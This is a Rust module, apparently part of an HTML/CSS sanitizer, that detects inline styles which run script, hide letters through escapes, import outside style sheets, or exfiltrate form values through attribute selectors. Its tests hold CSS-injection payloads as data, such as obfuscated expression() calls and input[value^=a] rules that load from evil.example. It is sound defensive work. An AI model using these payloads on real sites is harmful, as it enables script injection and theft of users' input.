//! Styles that run or load something.

/// Bytes of a style that are looked at.
pub(super) const STYLE_BYTES_MAX: usize = 2_048;

/// Numbers for ASCII signs from which a style hides something; a single one may be an icon's.
const HIDDEN_LETTERS: usize = 3;

/// The effect of a style.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Style {
    /// `expression(...)`, `behavior:`, `-moz-binding:`, `url(javascript:...)`
    Runs,
    /// ASCII letters as numbers, which only filters do not read
    Hides,
    /// `@import`
    Imports,
    /// The same of nothing but fonts, from a host for fonts.
    ImportsFont,
}

/// What `style` does, comments, escapes and odd bytes taken out; with comments in strings, as browsers have
/// them not, or without.
pub(super) fn style(style: &[u8]) -> Option<Style> {
    let first = read(style, false);
    let has_both =
        || memchr::memmem::find(style, b"/*").is_some() && memchr::memchr2(b'"', b'\'', style).is_some();
    if first != Some(Style::Runs) && has_both() {
        return read(style, true).or(first);
    }
    first
}

fn read(style: &[u8], has_strings: bool) -> Option<Style> {
    let mut string = None;
    let mut plain = [0u8; STYLE_BYTES_MAX];
    let mut len = 0;
    let mut hidden = 0;
    let mut rest = &style[..style.len().min(STYLE_BYTES_MAX)];
    while let [first, tail @ ..] = rest {
        rest = tail;
        if has_strings && matches!(first, b'"' | b'\'') && string.is_none_or(|open| open == first) {
            string = if string.is_some() { None } else { Some(first) };
        }
        let b = match (first, tail) {
            (b'/', [b'*', after @ ..]) if string.is_none() => {
                rest = memchr::memmem::find(after, b"*/").map_or(&[][..], |end| &after[end + 2..]);
                continue;
            }
            (b'\\', _) => {
                let digits = tail.iter().take(6).take_while(|b| b.is_ascii_hexdigit()).count();
                if digits == 0 {
                    continue;
                }
                let code = tail[..digits]
                    .iter()
                    .fold(0u32, |code, b| code << 4 | (*b as char).to_digit(16).unwrap_or(0));
                rest = &tail[digits..];
                if rest.first().is_some_and(u8::is_ascii_whitespace) {
                    rest = &rest[1..];
                }
                hidden += usize::from((0x28..0x7F).contains(&code));
                u8::try_from(code).unwrap_or(b'?')
            }
            (0..=0x20 | 0x7F.., _) => continue,
            _ => *first,
        };
        plain[len] = b.to_ascii_lowercase();
        len += 1;
    }
    let plain = &plain[..len];
    let has = |wanted: &[u8]| memchr::memmem::find(plain, wanted).is_some();
    if has(b"expression(")
        || has(b"-moz-binding:")
        || has(b"binding:url(")
        || has_behavior(plain)
        || has(b"behaviour:url(")
        || has(b"javascript:")
        || has(b"vbscript:")
        || has(b"url(data:text/html")
        || tells_values(plain)
    {
        return Some(Style::Runs);
    }
    if hidden >= HIDDEN_LETTERS {
        return Some(Style::Hides);
    }
    let mut imports = memchr::memmem::find_iter(plain, b"@import").map(|at| &plain[at + 7..]).peekable();
    imports.peek()?;
    let mut of_fonts = true;
    let mut is_one = false;
    for import in imports {
        let bare = import.strip_prefix(b"url(");
        let import = bare.unwrap_or(import);
        let address = match import {
            [b'\'' | b'"', address @ ..] => address,
            _ if bare.is_some() => import,
            _ => continue,
        };
        is_one = true;
        of_fonts &= is_of_fonts(address);
    }
    is_one.then_some(if of_fonts { Style::ImportsFont } else { Style::Imports })
}

/// `red}input[value^=a]{background:url(//host/a)}`: the value of a declaration that ends its rule and goes on
/// with one that loads from another host. A style sheet opens a rule before it ends one.
pub(super) fn style_breaks_out(text: &[u8]) -> bool {
    let text = &text[..text.len().min(STYLE_BYTES_MAX)];
    let Some(first) = memchr::memchr2(b'{', b'}', text).filter(|at| text[*at] == b'}') else { return false };
    // What stands before is the value of one declaration.
    let is_value = |b: &u8| b.is_ascii_alphanumeric() || b" #.,%()-;:'\"/_!".contains(b);
    if !text[..first].iter().all(is_value) {
        return false;
    }
    let rest = &text[first + 1..];
    let is_rule = memchr::memchr(b'{', rest).is_some();
    let is_foreign = |at: usize, name: &[u8]| {
        let address = rest[at + name.len()..].trim_ascii_start();
        let address = address.strip_prefix(b"(").unwrap_or(address).trim_ascii_start();
        let address = address.strip_prefix(b"url(").unwrap_or(address).trim_ascii_start();
        let address = address.strip_prefix(b"'").or(address.strip_prefix(b"\"")).unwrap_or(address);
        [&b"//"[..], b"http:", b"https:"].iter().any(|start| address.starts_with(start))
    };
    let loads = |name: &[u8]| memchr::memmem::find_iter(rest, name).take(16).any(|at| is_foreign(at, name));
    is_rule && (loads(b"url(") || loads(b"image-set(")) || loads(b"@import")
}

/// `behavior:url(x.htc)`: a script of its own. Not the rule `v\:* {behavior:url(#default#VML);}` for shapes
/// of Word and Outlook, which draws them in old versions of Internet Explorer.
fn has_behavior(plain: &[u8]) -> bool {
    const START: &[u8] = b"behavior:url(";
    const SHAPES: &[&[u8]] = &[b"v:*{", b"o:*{", b"w:*{", b".shape{"];
    memchr::memmem::find_iter(plain, START).any(|at| {
        let address = &plain[at + START.len()..];
        let address = address.strip_prefix(b"'").or(address.strip_prefix(b"\"")).unwrap_or(address);
        let draws = matches!(address.strip_prefix(b"#default#vml"), Some([b')' | b'\'' | b'"', ..]));
        !(draws && SHAPES.iter().any(|rule| plain[..at].ends_with(rule)))
    })
}

/// `input[value^=a]{background:url(//host/a)}`: the value of a field is tested letter by letter and sent to
/// another host.
fn tells_values(plain: &[u8]) -> bool {
    memchr::memmem::find_iter(plain, b"[value").take(16).any(|at| {
        let rest = &plain[at + 6..];
        let Some((b'^' | b'*' | b'$', rest)) = rest.split_first() else { return false };
        let Some(open) = memchr::memchr(b'{', rest).filter(|_| rest.starts_with(b"=")) else { return false };
        let rule = &rest[open..memchr::memchr(b'}', rest).map_or(rest.len(), |end| end.max(open))];
        memchr::memmem::find_iter(rule, b"url(").any(|at| {
            let address = &rule[at + 4..];
            let address = address.strip_prefix(b"'").or(address.strip_prefix(b"\"")).unwrap_or(address);
            [&b"//"[..], b"http:", b"https:"].iter().any(|start| address.starts_with(start))
        })
    })
}

/// `https://fonts.example.com/css2?family=a`: a family is asked of a host that is named for fonts.
fn is_of_fonts(address: &[u8]) -> bool {
    let Some(rest) = address.strip_prefix(b"https://").or_else(|| address.strip_prefix(b"//")) else {
        return false;
    };
    let end = rest.iter().position(|b| matches!(b, b'"' | b'\'' | b')' | b';')).unwrap_or(rest.len());
    let (host, path) = rest[..end].split_at(rest[..end].iter().position(|b| *b == b'/').unwrap_or(end));
    let is_plain = host.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'));
    let of_type = |label: &[u8]| memchr::memmem::find(label, b"font").is_some() || label == b"typekit";
    let asks = memchr::memmem::find(path, b"family=").is_some() || path.ends_with(b".css");
    is_plain && asks && host.split(|b| *b == b'.').any(of_type)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rules_behind_a_value() {
        for text in [
            "red}input[value^=a]{background:url(//a.example/a)}",
            "red}*{cursor:url( 'https://a.example/x'),auto}",
            "10px;}@import '//a.example/x.css';",
            "blue}@font-face{font-family:x;src:url(//a.example/x)}",
            "x}p{background:image-set('//a.example/x' 1x)}",
        ] {
            assert!(style_breaks_out(text.as_bytes()), "{text}");
        }
        for text in [
            "a{color:red}b{background:url(//a.example/x.png)}",
            "red}b{color:blue}",
            "red}*{background:url(/img/x.png)}",
            "url(//a.example/x.png)",
            "} else { x = 'http://a.example' }",
            "{{name}} and url(//a.example)",
        ] {
            assert!(!style_breaks_out(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn styles() {
        for runs in [
            "width: expression(alert(1))",
            "x:exp/**/ression(alert(1))",
            "no:y(\"*//*\");x:exp/*z*//*/*/ression(alert(1))",
            "x:e\\78 pression(1)",
            "x:\\65 xpression\\28 1)",
            "behavior: url(x.htc)",
            "v\\:* {behavior:url(#default#VML);} b{behavior:url(x.htc)}",
            "behavior:url(#default#time2)",
            "behavior:url(#default#vml);position:absolute",
            "behavior:url(#default#VML/../x.htc)",
            "-moz-binding:url(x)",
            "binding: url('http://a.example/x.html')",
            "background:url('javascript:alert(1)')",
            "input[value ^= a]{background:url(//evil.example/a)}",
        ] {
            assert_eq!(style(runs.as_bytes()), Some(Style::Runs), "{runs}");
        }
        assert_eq!(style(b"@import 'x.css'"), Some(Style::Imports));
        let font: &[u8] = b"@import url('https://fonts.example.com/css2?family=A+B&display=swap');";
        assert_eq!(style(font), Some(Style::ImportsFont));
        let two = [font, b" @import url(//evil.example/x.css)"].concat();
        assert_eq!(style(&two), Some(Style::Imports));
        assert_eq!(style(b"@import '//fonts.a@evil.example/css?family=x'"), Some(Style::Imports));
        assert_eq!(style(b"\\63\\6f \\6c or:red"), Some(Style::Hides));
        assert_eq!(style(b"content: \"\\f101 \\201C \\41\""), None);
        assert_eq!(style(b"color: red; background: url(\"/img/x.png\") /* expression( */"), None);
        assert_eq!(style(b"scroll-behavior: smooth"), None);
        assert_eq!(style(b"v\\:* {behavior:url(#default#VML);} o\\:* {behavior:url('#default#VML');}"), None);
        assert_eq!(
            style(b"a[href^=http]{background:url(https://a.example/x.png)} [value='1']{color:red}"),
            None
        );
    }
}
